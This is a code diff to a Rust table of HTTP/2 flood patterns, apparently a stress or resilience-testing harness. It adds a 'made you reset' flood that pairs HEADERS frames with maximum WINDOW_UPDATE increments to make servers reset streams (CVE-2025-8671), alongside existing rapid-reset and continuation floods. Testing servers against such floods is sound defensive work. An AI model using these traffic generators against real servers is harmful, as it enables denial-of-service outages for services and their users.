@@ -52,6 +52,7 @@ pub const FLOODS: &[Flood] = &[
     Flood { name: "rapid reset", wave: resets, listens: true, attackers: 4 },
     Flood { name: "rapid reset, many headers", wave: heavy_resets, listens: true, attackers: 4 },
     Flood { name: "rapid reset, answers not read", wave: resets, listens: false, attackers: 4 },
+    Flood { name: "made you reset", wave: provoked_resets, listens: true, attackers: 2 },
     Flood { name: "calls with many headers", wave: heavy_calls, listens: true, attackers: 4 },
     Flood { name: "continuations", wave: continuations, listens: true, attackers: 4 },
     Flood { name: "empty continuations", wave: empty_continuations, listens: true, attackers: 4 },
@@ -140,6 +141,19 @@ fn resets(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
         frame(wave, HEADERS, END_HEADERS, stream, &call);
         frame(wave, RST_STREAM, 0, stream, &CANCEL);
     })
+}
+
+/// CVE-2025-8671: what ends a stream is sent by the server, since the client does what it may not on one that is open.
+fn provoked_resets(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
+    let call = call(&to.path);
+    streams(next, WAVE, |stream| provoked_reset(wave, &call, stream))
+}
+
+/// A call that the server has to reset, since its window overflows.
+pub fn provoked_reset(wave: &mut Vec<u8>, call: &[u8], stream: u32) {
+    const MAX_INCREMENT: [u8; 4] = [0x7f, 0xff, 0xff, 0xff];
+    frame(wave, HEADERS, END_HEADERS, stream, call);
+    frame(wave, WINDOW_UPDATE, 0, stream, &MAX_INCREMENT);
 }
 
 fn heavy_resets(wave: &mut Vec<u8>, to: &Target, next: u32) -> u32 {
